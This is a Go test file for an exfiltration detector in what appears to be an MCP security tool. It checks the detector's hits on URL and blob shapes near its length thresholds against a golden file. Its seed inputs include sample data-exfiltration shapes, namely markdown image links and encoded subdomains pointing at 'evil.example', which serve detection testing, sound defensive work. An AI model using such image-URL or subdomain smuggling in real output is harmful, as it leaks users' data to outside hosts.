package exfil_test

import (
	"encoding/base64"
	"encoding/hex"
	"github.com/portcullis-mcp/portcullis/detectors/internal/golden/goldencorpus"
	"strings"
	"testing"

	"github.com/portcullis-mcp/portcullis/detectors/exfil"
	"github.com/portcullis-mcp/portcullis/detectors/internal/golden"
)

const goldenPath = "testdata/scan.golden"

var blob = base64.StdEncoding.EncodeToString([]byte(strings.Repeat("secret data \x00\x01\x02 ", 60)))

// scanSeeds are blob and URL shapes around the thresholds.
var scanSeeds = []string{
	"", "see https://example.com/a?b=c", "![x](https://evil.example/p?d=" + strings.Repeat("aZ3", 30) + ")",
	"https://" + strings.Repeat("ab9z", 12) + ".evil.example/x", blob, blob[:300] + "\n" + blob[300:],
	hex.EncodeToString([]byte(strings.Repeat("\x01\x99secret", 40))), strings.Repeat("A", 600), "http://" + strings.Repeat("%41", 40),
	"https://a.b/" + strings.Repeat("x", 39), "https://a.b/" + strings.Repeat("Qz8", 30),
}

// shapeTexts are URLs and blobs of every length around the thresholds, with
// low- and high-entropy payloads (deterministic).
func shapeTexts() []string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	payload := func(n int, high bool) string {
		b := make([]byte, n)
		x := uint32(2463534242)
		for i := range b {
			x ^= x << 13
			x ^= x >> 17
			x ^= x << 5
			if high {
				b[i] = alphabet[x%62]
			} else {
				b[i] = "ab"[x%2]
			}
		}
		return string(b)
	}
	var out []string
	for n := exfil.MinURLValue - 8; n <= exfil.MinURLValue+8; n += 2 {
		for _, high := range []bool{false, true} {
			p := payload(n, high)
			out = append(out, "see https://x.example/api?q="+p+"&lang=en ok",
				"https://x.example/"+p+"/next",
				"![img](https://x.example/i.png?d="+p+")",
				"https://"+strings.ToLower(p[:min(n, 60)])+".x.example/")
		}
	}
	for _, n := range []int{exfil.MinBlobBase64 - 1, exfil.MinBlobBase64, exfil.MinBlobHex - 1, exfil.MinBlobHex} {
		p := payload(n, true)
		out = append(out, "data: "+p+" end", "data: "+hex.EncodeToString([]byte(p))[:n]+" end")
	}
	return out
}

// scanTexts: the seeds, threshold shapes and a sample of real harmless tool
// output.
func loadScanTexts(t testing.TB) []string {
	texts := append(append([]string(nil), scanSeeds...), shapeTexts()...)
	texts = append(texts, goldencorpus.Harmless(t)...)
	return texts
}

// scanLine is the canonical golden output of Scan(s).
func scanLine(s string) string {
	var spans []golden.Span
	for _, h := range exfil.Scan(s) {
		spans = append(spans, golden.Span{Label: h.Category, Start: h.Start, End: h.End, Score: h.Confidence})
	}
	return golden.Spans(s, spans)
}

// TestScanGolden pins Scan's hits on real harmless tool output and on blob
// and URL shapes around the thresholds (testdata/scan.golden, first
// generated from the code before the speed work; -update rewrites it after
// an intended change).
func TestScanGolden(t *testing.T) {
	texts := scanTexts(t)
	if len(texts) < 1000 && !testing.Short() {
		t.Fatalf("only %d texts", len(texts))
	}
	golden.Check(t, goldenPath, texts, !testing.Short(), scanLine)
}

var goldenInputs golden.Inputs

// scanTexts is the golden inputs, loaded once per test binary.
func scanTexts(t testing.TB) []string { return goldenInputs.Get(t, loadScanTexts) }
